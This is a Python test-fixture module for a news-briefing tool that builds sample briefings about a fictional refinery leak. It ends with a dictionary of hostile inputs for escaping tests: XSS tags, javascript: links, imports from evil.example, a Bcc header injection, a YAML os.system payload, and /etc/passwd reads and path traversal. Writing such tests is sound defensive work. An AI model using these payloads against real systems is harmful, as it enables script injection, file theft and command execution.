"""Briefings made by hand, so that the forms can be tested without the stages that read an article."""

from __future__ import annotations

from dataclasses import replace

from allegedly.analysis import Sourcing
from allegedly.article import Span
from allegedly.briefing import Briefing, Digest, Elsewhere, Entry, Item, Section, SectionKind

_SPAN = (Span(0, 1),)

FACTS_NOTICE = "Told by the article in its own voice, or said on the record by a named source."
ALLEGATIONS_NOTICE = "Each of these rests on people whom the article does not name, or on hearsay."


def item(text: str, notice: str, sourcing: Sourcing = "fact") -> Item:
    return Item(text, _SPAN, sourcing, notice, None)


def section(kind: SectionKind, *items: Item, notice: str = "") -> Section:
    facts = kind == "facts"
    return Section(
        kind,
        "Reported facts" if facts else "Anonymous-source allegations",
        notice or (FACTS_NOTICE if facts else ALLEGATIONS_NOTICE),
        items,
    )


REFINERY = Briefing(
    title="Tarnholm refinery shuts after “second leak”",
    title_notice="",
    provenance="By Óscar Lindqvist · dateline Tarnholm · The Østland Courier · 412 words in, 96 out",
    sections=(
        section(
            "facts",
            item(
                "The Tarnholm refinery stopped pumping on Friday — the second halt this year — after a leak "
                "in its oldest tank.",
                "The article’s own reporting",
            ),
            item(
                'Birgit Šarić, the plant’s director, said repairs would cost "about €4m" and take until May.',
                "Birgit Šarić, on the record",
                "on-record",
            ),
            item("Output fell 9% last year …", "The article’s own reporting; no source given for the figure"),
        ),
        section(
            "allegations",
            item(
                "Three workers, who asked not to be named because they feared for their jobs, said the tank "
                "had not been inspected since it was built.",
                'Three workers, not named "because they feared for their jobs". The article reports no '
                "confirmation; the company declined to comment",
                "allegation",
            ),
            item(
                "… the insurer is said to be leaving.",
                "Hearsay: the article names nobody",
                "allegation",
            ),
        ),
    ),
    sources="Sources: 1 on the record (Birgit Šarić); 1 not identified (three workers); 1 statement with no "
    "source. Left out: 2 reported facts.",
    omitted={"facts": 2, "allegations": 0},
)

OUTRUN = replace(
    REFINERY,
    title="Refinery tank never inspected [three workers say]",
    title_notice="The headline is flat; the article rests it on three workers",
)

NO_FACTS = replace(
    REFINERY,
    sections=(
        section("facts", notice="None: nothing stands without an unnamed source."),
        REFINERY.sections[1],
    ),
)

NO_ALLEGATIONS = replace(
    REFINERY,
    sections=(
        REFINERY.sections[0],
        section("allegations", notice="None found: nothing in the article rests on an unnamed source."),
    ),
)

EMPTY = replace(NO_FACTS, sections=(NO_FACTS.sections[0], NO_ALLEGATIONS.sections[1]))

WHOLE = {
    "ordinary": REFINERY,
    "outrun": OUTRUN,
    "no facts": NO_FACTS,
    "no allegations": NO_ALLEGATIONS,
    "empty": EMPTY,
}


def everywhere(text: str) -> Briefing:
    """A briefing that has `text` in every place where words of an article can stand."""
    quoted = f"Clerks, {text}, said so"
    return Briefing(
        title=text,
        title_notice=f"The headline is flat; the article rests it on {text}",
        provenance=f"{text} · 10 words in, 5 out",
        sections=(
            section("facts", item(text, text), item(quoted, quoted)),
            section("allegations", item(text, text, "allegation"), item(quoted, quoted, "allegation")),
        ),
        sources=f"Sources: 1 on the record ({text}).",
        omitted={"facts": 0, "allegations": 0},
    )


def sayings(briefing: Briefing) -> list[str]:
    """Every text of the briefing in reading order: what no form may lose. Notices without their brackets."""
    printed = briefing.printed()
    found = [printed.title, printed.title_notice, printed.provenance]
    for part in printed.sections:
        found += [part.heading, part.notice]
        for each in part.items:
            found += [each.text, each.whole_notice]
    return [text for text in (*found, printed.sources) if text]


def issue(*briefings: Briefing, title: str = "The week in Østland", intro: str = "") -> Digest:
    """A digest of briefs made by hand, each of another outlet."""
    return Digest(
        title=title,
        intro=(intro,) if intro else (),
        contents="In this issue",
        notice="Each brief keeps what its article reports apart from what rests on people it does not name.",
        entries=tuple(
            Entry(n, f"Outlet {n} · 2 March 2026", briefing, "Left out: 2 reported facts.")
            for n, briefing in enumerate(briefings, start=1)
        ),
        sources_heading="Sources of this issue",
        sources=("On the record: Birgit Šarić (1, 2).", "Not identified: three workers (1)."),
    )


def also(briefing: Briefing, notice: str) -> Briefing:
    """The briefing, its last item told by another article of the issue as well."""
    *others, last = briefing.sections
    *items, item = last.items
    item = replace(item, elsewhere=(Elsewhere(2, "on-record", _SPAN, notice),))
    return replace(briefing, sections=(*others, replace(last, items=(*items, item))))


ISSUE = issue(
    also(REFINERY, "In Outlet 2 (brief 2) it is on the record, from Birgit Šarić."),
    OUTRUN,
    EMPTY,
    intro="Good morning. Two leaks, one tank.",
)

ISSUES = {
    "three": ISSUE,
    "one without an intro": issue(NO_ALLEGATIONS),
    "the same twice": issue(OUTRUN, OUTRUN),
}


def everywhere_in_issue(text: str) -> Digest:
    """A digest that has `text` in every place where words of an article or of the editor can stand."""
    made = issue(also(everywhere(text), text), everywhere(text), title=text, intro=text)
    entries = tuple(replace(e, origin=text, last=f"Told in {text} (brief 1).") for e in made.entries)
    return replace(made, entries=entries, sources=(f"On the record: {text} (1).",))


def issue_sayings(digest: Digest) -> list[str]:
    """Every text of the digest in reading order: what no form may lose. Notices without their brackets."""
    printed = digest.printed()
    found = [printed.title, *printed.intro, printed.contents]
    for entry in printed.entries:
        found += [entry.briefing.title, entry.origin]
    found.append(printed.notice)
    for entry in printed.entries:
        *rest, _ = sayings(entry.briefing)
        found += [*rest, entry.last]
    return [text for text in (*found, printed.sources_heading, *printed.sources) if text]


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image tag": '<img src="http://evil.example/x.png" onerror=alert(1)>',
    "style": "</style><style>@import url(http://evil.example/a.css)</style>",
    "comment": "<!-- hidden --> --> <!--[if mso]> x",
    "cdata": "<![CDATA[ x ]]> <?php echo 1 ?>",
    "entities": "AT&T &amp; &lt;b&gt; &#123;&#123; &#x3c;script&#x3e; &copy",
    "go and liquid": "{{ .Site.Title }} {% include secret.html %} {# note #} {{- x -}}",
    "shortcodes": '{{< figure src="http://evil.example/x.png" >}} {{% note %}}',
    "mdx": "{process.env.SECRET} <Component /> export const x = 1",
    "import": 'import evil from "http://evil.example/x.js"',
    "merge": "*|FNAME|* *|IF:X|* *|END:IF|* |*|",
    "ghost": '%%{first_name}%% {first_name, "friend"}',
    "image": "![alt](http://evil.example/x.png) ![a][b]",
    "link": "[click](javascript:alert(1)) [x][y] <javascript:alert(1)> <http://evil.example>",
    "definition": "[y]: http://evil.example 'title'",
    "abbreviation": "[HTML]: markup *[HTML]: markup",
    "footnote": "[^1] [^1]: note",
    "attributes": '{: onclick="alert(1)" .x #y } {::nomarkdown} {:toc}',
    "header": "News\r\nBcc: victim@evil.example\r\n\r\nBody",
    "encoded word": "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
    "c1": "the minister\x92s \x93word\x94 \x85 \x80 5\x00\x1b[31m",
    "direction": "user\u202egnp.exe \u2066x\u2069 \u200bzero\ufeffwidth",
    "broken": "lone \ud800 surrogate \ufffe noncharacter",
    "typst": '#set page(width: 1pt) #read("/etc/passwd") = heading $ x $ @ref <label> \\ `raw` //c /* c */',
    "marks": "*bold* **strong** _it_ __it__ ~~strike~~ ~sub~ `code` ***x***",
    "heading": "# Reported facts",
    "hashes": "C# and F# *#",
    "setext": "Title\n=====\n\nOther\n-----",
    "bullet": "- item + item * item",
    "number": "1. one 2) two 2024. A year",
    "quote": "> quote >> quote",
    "rule": "--- *** ___",
    "table": "a | b | c |---|---| $$ x $$",
    "task": "[ ] open [x] done",
    "fence": "```html ~~~ ```",
    "front matter": "--- title: evil --- +++ title = 'evil' +++",
    "yaml": "!!python/object:os.system ['ls'] & * ? : - , [] {} # | > @ ` % \" ' \\ \\n",
    "slack": "<!channel> <@U123> <http://evil.example|click> :smile: :100: @here &lt;!here&gt;",
    "scripts": "Привет Ελλάδα قال شيئا 日本語 한국어 😀👩‍👩‍👧 é ñ",
    "backslashes": "\\ \\\\ \\* \\[ \\u0041 \\",
    "brackets": "]( ]] [[ )( *( )* _( )_",
    "path": "../../etc/passwd /etc/passwd C:\\x file:///etc/passwd",
    "long word": "x" * 400,
    "long address": "http://evil.example/" + "abc/" * 100,
}
